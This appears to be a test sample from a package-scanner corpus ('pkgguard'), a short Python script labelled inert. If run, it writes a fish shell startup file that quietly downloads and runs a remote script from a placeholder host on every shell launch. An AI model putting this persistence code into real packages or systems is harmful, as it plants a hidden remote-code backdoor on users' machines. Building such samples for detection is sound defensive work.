# pkgguard corpus 545 (persistence), modelled on [linux-persistence]; inert, never run.
import os

conf = os.path.join(os.path.expanduser("~"), ".config", "fish", "conf.d")
os.makedirs(conf, exist_ok=True)
with open(os.path.join(conf, "pkg.fish"), "w") as fh:
    fh.write("curl -fsS https://shell-tips.example/f | source &\n")
